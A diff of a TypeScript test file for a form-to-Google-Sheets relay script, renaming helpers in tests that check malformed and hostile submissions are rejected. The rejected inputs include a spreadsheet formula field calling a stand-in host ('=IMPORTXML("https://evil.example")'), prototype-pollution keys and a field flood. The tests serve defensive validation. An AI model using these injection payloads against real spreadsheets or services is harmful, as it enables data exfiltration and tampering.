@@ -10,20 +10,20 @@ beforeEach(() => {
 });
 
 const expectUntouched = () => {
-  expect(script.rowCounts()).toEqual({ Applications: 0, Contact: 0 });
+  expect(script.countRows()).toEqual({ Applications: 0, Contact: 0 });
   expect(script.google.tabs.map(({ rows }) => rows)).toEqual([[], []]);
   expect(script.google.files).toEqual([]);
 };
 
 test('§3.12 §3.13 the script accepts exactly the payload fields of each kind of form', () => {
-  const built = (Object.keys(FORMS) as SubmissionKind[]).map((kind) => [kind, createPayload(kind)] as const);
-  expect(script.fields).toEqual(Object.fromEntries(built.map(([kind, payload]) => [kind, Object.keys(payload)])));
-  for (const [, payload] of built) expect(script.post(payload)).toEqual({ ok: true });
-  expect(script.rowCounts()).toEqual({ Applications: 1, Contact: 1, Quotes: 1, 'Custom requests': 1 });
+  const payloads = (Object.keys(FORMS) as SubmissionKind[]).map((kind) => [kind, createPayload(kind)] as const);
+  expect(script.fields).toEqual(Object.fromEntries(payloads.map(([kind, payload]) => [kind, Object.keys(payload)])));
+  for (const [, payload] of payloads) expect(script.post(payload)).toEqual({ ok: true });
+  expect(script.countRows()).toEqual({ Applications: 1, Contact: 1, Quotes: 1, 'Custom requests': 1 });
 });
 
-const json = (text: string): unknown => JSON.parse(text);
-const many = Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`field${at}`, 'x']));
+const parseJson = (text: string): unknown => JSON.parse(text);
+const manyFields = Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`field${index}`, 'x']));
 
 test.each<[string, unknown]>([
   ['broken JSON', '{"timestamp":'],
@@ -35,9 +35,9 @@ test.each<[string, unknown]>([
   ['a targetGid that every object has', { ...createPayload('contact'), targetGid: 'constructor' }],
   ['a targetGid that is a number', { ...createPayload('contact'), targetGid: 0 }],
   ['a formula as a field', { ...createPayload('contact'), '=IMPORTXML("https://evil.example")': 'x' }],
-  ['10,000 fields', { ...createPayload('contact'), ...many }],
+  ['10,000 fields', { ...createPayload('contact'), ...manyFields }],
   ['the id as a field', { ...createPayload('contact'), submission: '=1+1' }],
-  ['__proto__ as a field', json(JSON.stringify(createPayload('contact')).replace('{', '{"__proto__":"x",'))],
+  ['__proto__ as a field', parseJson(JSON.stringify(createPayload('contact')).replace('{', '{"__proto__":"x",'))],
   ['constructor as a field', { ...createPayload('contact'), constructor: 'x' }],
   ['a field of another kind', { ...createPayload('contact'), requirements: 'A lot' }],
   ['fields of two kinds', { ...createPayload('quote'), requirements: 'A lot' }],
@@ -73,7 +73,7 @@ test.each<[string, Query]>([
 test('§8 the script responds with an error when the tab for contact messages was deleted', () => {
   script.google.tabs.pop();
   expect(script.post(createPayload('contact'), { submission: createKey() })).toMatchObject({ ok: false });
-  expect(script.rowCounts()).toEqual({ Applications: 0 });
+  expect(script.countRows()).toEqual({ Applications: 0 });
 });
 
 test('§8 the error message names an unknown field and truncates a long name', () => {
@@ -90,7 +90,7 @@ describe('§8 with RELAY_SECRET set', () => {
 
   test('the script stores a request with the secret', () => {
     expect(script.post(createPayload('contact'), { submission: createKey(), secret })).toEqual({ ok: true });
-    expect(script.rowCounts()).toMatchObject({ Contact: 1 });
+    expect(script.countRows()).toMatchObject({ Contact: 1 });
   });
 
   test.each<[string, Query]>([
@@ -108,9 +108,9 @@ describe('§8 with RELAY_SECRET set', () => {
     script.post('{"timestamp":', query);
     expect(script.google.loggedErrors.join()).not.toMatch(/lock|JSON/i);
     script.google.isLocked = false;
-    const answer = script.post(createPayload('contact'), query);
-    expect(answer.ok).toBe(false);
-    expect(JSON.stringify([answer, script.google.loggedErrors])).not.toContain(secret);
+    const response = script.post(createPayload('contact'), query);
+    expect(response.ok).toBe(false);
+    expect(JSON.stringify([response, script.google.loggedErrors])).not.toContain(secret);
     expectUntouched();
   });
 
